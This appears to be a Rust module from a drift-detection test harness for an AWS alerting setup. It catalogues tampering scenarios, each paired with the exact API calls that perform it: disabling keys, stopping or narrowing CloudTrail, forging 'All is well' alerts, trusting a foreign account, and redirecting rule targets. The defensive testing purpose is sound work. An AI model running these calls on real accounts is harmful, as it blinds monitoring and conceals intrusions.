//! Every kind of change that silences, forges or redirects alerts.

use compiler::Part;
use deployer::drift::DriftCode;
use serde_json::{Map, Value, json};

use super::{Call, Deed, Kind, Victim, stack};

/// The parts in which everything is looked at, whether or not a template sets it.
const HUB: &[Part] = &[Part::Topic];
/// The parts in every watched account and Region.
const EVERYWHERE: &[Part] = &[Part::RulesSpoke, Part::RulesLocal];
const WITH_ROLES: &[Part] = &[
    Part::Topic,
    Part::RulesSpoke,
    Part::RulesLocal,
    Part::DriftSchedule,
];
const WITH_RULES: &[Part] = &[
    Part::Topic,
    Part::RulesHub,
    Part::RulesSpoke,
    Part::RulesLocal,
];
const WITH_QUEUES: &[Part] = &[Part::Topic, Part::RulesSpoke, Part::RulesLocal];
const WITH_ALARMS: &[Part] = &[Part::Topic, Part::RulesLocal];
const TRAIL: &[Part] = &[Part::Trail];
const SCHEDULE: &[Part] = &[Part::DriftSchedule];

const KEY: &str = "AWS::KMS::Key";
const TOPIC: &str = "AWS::SNS::Topic";
const SUBSCRIPTION: &str = "AWS::SNS::Subscription";
const QUEUE: &str = "AWS::SQS::Queue";
const ROLE: &str = "AWS::IAM::Role";
const BUS: &str = "AWS::Events::EventBus";
const RULE: &str = "AWS::Events::Rule";
const ALARM: &str = "AWS::CloudWatch::Alarm";
const CLOUDTRAIL: &str = "AWS::CloudTrail::Trail";
const SCHEDULED: &str = "AWS::Scheduler::Schedule";

const DENY_ALL: &str = "arn:aws:iam::aws:policy/AWSDenyAll";
/// Not in the organization.
const STRANGER: &str = "999999999999";

const fn kind(
    what: &'static str,
    parts: &'static [Part],
    deed: Deed,
    codes: &'static [DriftCode],
) -> Kind {
    Kind {
        what,
        parts,
        deed,
        codes,
    }
}

use DriftCode::{
    AlarmChanged, AlarmMissing, BusPolicy, DataProtection, KeyPolicy, KeyState, QueueMissing,
    QueuePolicy, QueueSettings, ResourceDeleted, ResourceModified, RoleMissing, RolePolicies,
    RuleChanged, RuleDisabled, RuleMissing, RuleUnexpected, StackGone, StackParameters,
    StackTemplate, SubscriptionFilter, SubscriptionMissing, SubscriptionSettings,
    SubscriptionUnexpected, TopicMissing, TopicPolicy, TopicSettings, TrailEvents, TrailMissing,
    TrailScope, TrailStopped,
};

#[rustfmt::skip]
pub(super) const KINDS: &[Kind] = &[
    kind("a key is disabled", HUB, Deed::Call(KEY, disable_key), &[KeyState]),
    kind("a key is scheduled for deletion", HUB, Deed::Call(KEY, schedule_key_deletion), &[KeyState]),
    kind("a key's policy denies", HUB, Deed::Call(KEY, deny_key), &[KeyPolicy, ResourceModified]),
    kind("a topic's policy denies", HUB, Deed::Call(TOPIC, deny_topic), &[TopicPolicy, ResourceModified]),
    kind("a topic throttles", HUB, Deed::Call(TOPIC, throttle_topic), &[TopicSettings]),
    kind("a topic has a data protection policy", HUB, Deed::Call(TOPIC, data_protection), &[DataProtection]),
    kind("a stranger subscribes", HUB, Deed::Call(TOPIC, subscribe), &[SubscriptionUnexpected]),
    kind("a topic is deleted", HUB, Deed::Delete(TOPIC), &[TopicMissing, ResourceDeleted]),
    kind("a subscription filters", HUB, Deed::Call(SUBSCRIPTION, filter), &[SubscriptionFilter]),
    kind("a subscription throttles", HUB, Deed::Call(SUBSCRIPTION, throttle), &[SubscriptionSettings]),
    kind("a subscription ends", HUB, Deed::Delete(SUBSCRIPTION), &[SubscriptionMissing, ResourceDeleted]),
    kind("the bus admits nobody", HUB, Deed::Call(BUS, close_bus), &[BusPolicy]),
    kind("the bus admits strangers", HUB, Deed::Call(BUS, open_bus), &[BusPolicy]),
    kind("a foreign rule forges alerts", HUB, Deed::Call(BUS, forge), &[RuleUnexpected]),
    kind("an alarm tells nobody", HUB, Deed::Call(ALARM, disable_alarm), &[AlarmChanged]),
    kind("an alarm never rings", WITH_ALARMS, Deed::Edit(ALARM, deafen), &[AlarmChanged, ResourceModified]),
    kind("an alarm is deleted", WITH_ALARMS, Deed::Delete(ALARM), &[AlarmMissing, ResourceDeleted]),
    kind("a queue refuses dead letters", WITH_QUEUES, Deed::Call(QUEUE, close_queue), &[QueuePolicy, ResourceModified, ResourceDeleted]),
    kind("a queue forgets dead letters", WITH_QUEUES, Deed::Call(QUEUE, forget), &[QueueSettings, ResourceModified]),
    kind("a queue is deleted", WITH_QUEUES, Deed::Delete(QUEUE), &[QueueMissing, ResourceDeleted]),
    kind("a managed policy denies", WITH_ROLES, Deed::Call(ROLE, attach), &[RolePolicies, ResourceModified]),
    kind("an inline policy denies", WITH_ROLES, Deed::Call(ROLE, inline), &[RolePolicies, ResourceModified]),
    kind("a boundary denies", WITH_ROLES, Deed::Call(ROLE, bound), &[RolePolicies, ResourceModified]),
    kind("a role trusts strangers", WITH_ROLES, Deed::Call(ROLE, trust), &[RolePolicies, ResourceModified]),
    kind("a role is deleted", WITH_ROLES, Deed::Delete(ROLE), &[RoleMissing, RolePolicies, ResourceDeleted]),
    kind("a rule is disabled", WITH_RULES, Deed::Call(RULE, disable_rule), &[RuleDisabled, RuleChanged, ResourceModified]),
    kind("a rule matches nothing", WITH_RULES, Deed::Call(RULE, match_nothing), &[RuleChanged, ResourceModified]),
    kind("a rule's target is another", WITH_RULES, Deed::Call(RULE, redirect), &[RuleChanged, ResourceModified]),
    kind("a rule is deleted", WITH_RULES, Deed::Delete(RULE), &[RuleMissing, ResourceDeleted]),
    kind("the trail is stopped", TRAIL, Deed::Call(CLOUDTRAIL, stop), &[TrailStopped, ResourceModified]),
    kind("the trail is narrowed", TRAIL, Deed::Call(CLOUDTRAIL, narrow), &[TrailEvents, ResourceModified]),
    kind("the trail sees one Region", TRAIL, Deed::Call(CLOUDTRAIL, confine), &[TrailScope, ResourceModified]),
    kind("the trail is deleted", TRAIL, Deed::Delete(CLOUDTRAIL), &[TrailMissing, ResourceDeleted]),
    kind("a schedule is disabled", SCHEDULE, Deed::Edit(SCHEDULED, pause), &[ResourceModified]),
    kind("a schedule is deleted", SCHEDULE, Deed::Delete(SCHEDULED), &[ResourceDeleted]),
    kind("a stack's template is changed", EVERYWHERE, Deed::Stack(stack::change_template), &[StackTemplate]),
    kind("a stack's parameter is changed", EVERYWHERE, Deed::Stack(stack::change_parameter), &[StackParameters]),
    kind("a stack is deleted", EVERYWHERE, Deed::Stack(stack::delete), &[StackGone]),
];

impl Victim<'_> {
    fn id(&self) -> &str {
        &self.resource.physical_id
    }

    /// Name and bus of a rule. On a bus of its own, the physical id is `bus|name`.
    fn rule(&self) -> (&str, &str) {
        let (bus, name) = self.id().split_once('|').unwrap_or(("default", self.id()));
        (name, bus)
    }
}

/// A policy with the resource's administrator and a statement that denies.
fn denial(of: &Victim<'_>, administration: &str, denied: &str, resource: &str) -> Value {
    let root = format!("arn:aws:iam::{}:root", of.account);
    let policy = json!({"Version": "2012-10-17", "Statement": [
        {"Sid": "Root", "Effect": "Allow", "Principal": {"AWS": root}, "Action": administration,
         "Resource": resource},
        {"Sid": "Nobody", "Effect": "Deny", "Principal": {"AWS": "*"}, "Action": denied,
         "Resource": resource}]});
    json!(policy.to_string())
}

fn disable_key(of: &Victim<'_>) -> Vec<Call> {
    vec![("kms", "DisableKey", json!({"KeyId": of.id()}))]
}

fn schedule_key_deletion(of: &Victim<'_>) -> Vec<Call> {
    let input = json!({"KeyId": of.id(), "PendingWindowInDays": 7});
    vec![("kms", "ScheduleKeyDeletion", input)]
}

fn deny_key(of: &Victim<'_>) -> Vec<Call> {
    let policy = denial(of, "kms:*", "kms:GenerateDataKey*", "*");
    let input = json!({"KeyId": of.id(), "PolicyName": "default", "Policy": policy});
    vec![("kms", "PutKeyPolicy", input)]
}

fn topic_attribute(of: &Victim<'_>, name: &str, value: &Value) -> Vec<Call> {
    let input = json!({"TopicArn": of.id(), "AttributeName": name, "AttributeValue": value});
    vec![("sns", "SetTopicAttributes", input)]
}

fn deny_topic(of: &Victim<'_>) -> Vec<Call> {
    let policy = denial(of, "sns:Subscribe", "sns:Publish", of.id());
    topic_attribute(of, "Policy", &policy)
}

fn throttle_topic(of: &Victim<'_>) -> Vec<Call> {
    let policy = json!({"http": {"disableSubscriptionOverrides": true}});
    topic_attribute(of, "DeliveryPolicy", &json!(policy.to_string()))
}

fn data_protection(of: &Victim<'_>) -> Vec<Call> {
    let policy = json!({"Name": "silence", "Version": "2021-06-01", "Statement": [{
        "Sid": "NoAlerts", "DataDirection": "Inbound", "Principal": ["*"],
        "DataIdentifier": ["arn:aws:dataprotection::aws:data-identifier/IpAddress"],
        "Operation": {"Deny": {}}}]});
    let input = json!({"ResourceArn": of.id(), "DataProtectionPolicy": policy.to_string()});
    vec![("sns", "PutDataProtectionPolicy", input)]
}

fn subscribe(of: &Victim<'_>) -> Vec<Call> {
    let input =
        json!({"TopicArn": of.id(), "Protocol": "email", "Endpoint": "stranger@example.com"});
    vec![("sns", "Subscribe", input)]
}

fn subscription_attribute(of: &Victim<'_>, name: &str, value: &Value) -> Vec<Call> {
    let value = value.to_string();
    let input = json!({"SubscriptionArn": of.id(), "AttributeName": name, "AttributeValue": value});
    vec![("sns", "SetSubscriptionAttributes", input)]
}

fn filter(of: &Victim<'_>) -> Vec<Call> {
    subscription_attribute(of, "FilterPolicy", &json!({"kind": ["never"]}))
}

fn throttle(of: &Victim<'_>) -> Vec<Call> {
    let policy = json!({"throttlePolicy": {"maxReceivesPerSecond": 1}});
    subscription_attribute(of, "DeliveryPolicy", &policy)
}

fn bus_policy(of: &Victim<'_>, effect: &str) -> Vec<Call> {
    let bus = of.id();
    let arn = format!(
        "arn:aws:events:{}:{}:event-bus/{bus}",
        of.region, of.account
    );
    let policy = json!({"Version": "2012-10-17", "Statement": [{
        "Sid": "Everybody", "Effect": effect, "Principal": "*", "Action": "events:PutEvents",
        "Resource": arn}]});
    let input = json!({"EventBusName": bus, "Policy": policy.to_string()});
    vec![("events", "PutPermission", input)]
}

fn close_bus(of: &Victim<'_>) -> Vec<Call> {
    bus_policy(of, "Deny")
}

fn open_bus(of: &Victim<'_>) -> Vec<Call> {
    bus_policy(of, "Allow")
}

fn forge(of: &Victim<'_>) -> Vec<Call> {
    let (region, account, bus) = (of.region, of.account, of.id());
    let pattern = json!({"source": ["anything"]}).to_string();
    let target = json!({
        "Id": "alerts", "Arn": format!("arn:aws:sns:{region}:{account}:gizmos-alerts"),
        "Input": "\"All is well\"",
        "RoleArn": format!("arn:aws:iam::{account}:role/gizmos-hub/gizmos-publisher")});
    vec![
        (
            "events",
            "PutRule",
            json!({"Name": "forger", "EventBusName": bus, "State": "ENABLED", "EventPattern": pattern}),
        ),
        (
            "events",
            "PutTargets",
            json!({"Rule": "forger", "EventBusName": bus, "Targets": [target]}),
        ),
    ]
}

fn disable_alarm(of: &Victim<'_>) -> Vec<Call> {
    vec![(
        "monitoring",
        "DisableAlarmActions",
        json!({"AlarmNames": [of.id()]}),
    )]
}

fn deafen(_: &Victim<'_>) -> Map<String, Value> {
    Map::from_iter([("Threshold".to_owned(), json!(1_000_000))])
}

fn queue_attribute(of: &Victim<'_>, name: &str, value: &Value) -> Vec<Call> {
    let attributes = Map::from_iter([(name.to_owned(), value.clone())]);
    let input = json!({"QueueUrl": of.id(), "Attributes": attributes});
    vec![("sqs", "SetQueueAttributes", input)]
}

fn close_queue(of: &Victim<'_>) -> Vec<Call> {
    queue_attribute(of, "Policy", &json!(""))
}

fn forget(of: &Victim<'_>) -> Vec<Call> {
    queue_attribute(of, "MessageRetentionPeriod", &json!("60"))
}

fn attach(of: &Victim<'_>) -> Vec<Call> {
    let input = json!({"RoleName": of.id(), "PolicyArn": DENY_ALL});
    vec![("iam", "AttachRolePolicy", input)]
}

fn inline(of: &Victim<'_>) -> Vec<Call> {
    let policy = json!({"Version": "2012-10-17", "Statement": [
        {"Effect": "Deny", "Action": "*", "Resource": "*"}]});
    let policy = policy.to_string();
    let input = json!({"RoleName": of.id(), "PolicyName": "silence", "PolicyDocument": policy});
    vec![("iam", "PutRolePolicy", input)]
}

fn bound(of: &Victim<'_>) -> Vec<Call> {
    let input = json!({"RoleName": of.id(), "PermissionsBoundary": DENY_ALL});
    vec![("iam", "PutRolePermissionsBoundary", input)]
}

fn trust(of: &Victim<'_>) -> Vec<Call> {
    let policy = json!({"Version": "2012-10-17", "Statement": [{
        "Effect": "Allow", "Principal": {"AWS": format!("arn:aws:iam::{STRANGER}:root")},
        "Action": "sts:AssumeRole"}]});
    let input = json!({"RoleName": of.id(), "PolicyDocument": policy.to_string()});
    vec![("iam", "UpdateAssumeRolePolicy", input)]
}

fn disable_rule(of: &Victim<'_>) -> Vec<Call> {
    let (name, bus) = of.rule();
    vec![(
        "events",
        "DisableRule",
        json!({"Name": name, "EventBusName": bus}),
    )]
}

fn match_nothing(of: &Victim<'_>) -> Vec<Call> {
    let (name, bus) = of.rule();
    let pattern = json!({"source": ["aws.nothing"]}).to_string();
    let input = json!({"Name": name, "EventBusName": bus, "EventPattern": pattern});
    vec![("events", "PutRule", input)]
}

fn redirect(of: &Victim<'_>) -> Vec<Call> {
    let (name, bus) = of.rule();
    let mut targets = of
        .resource
        .properties
        .get("Targets")
        .cloned()
        .unwrap_or_default();
    let theirs = format!("arn:aws:events:{}:{STRANGER}:event-bus/theirs", of.region);
    if let Some(target) = targets.get_mut(0) {
        target["Arn"] = json!(theirs);
    }
    let input = json!({"Rule": name, "EventBusName": bus, "Targets": targets});
    vec![("events", "PutTargets", input)]
}

fn stop(of: &Victim<'_>) -> Vec<Call> {
    vec![("cloudtrail", "StopLogging", json!({"Name": of.id()}))]
}

fn narrow(of: &Victim<'_>) -> Vec<Call> {
    let input = json!({"TrailName": of.id(), "EventSelectors": [
        {"ReadWriteType": "ReadOnly", "IncludeManagementEvents": true}]});
    vec![("cloudtrail", "PutEventSelectors", input)]
}

fn confine(of: &Victim<'_>) -> Vec<Call> {
    let input = json!({"Name": of.id(), "IsMultiRegionTrail": false});
    vec![("cloudtrail", "UpdateTrail", input)]
}

fn pause(_: &Victim<'_>) -> Map<String, Value> {
    Map::from_iter([("State".to_owned(), json!("DISABLED"))])
}
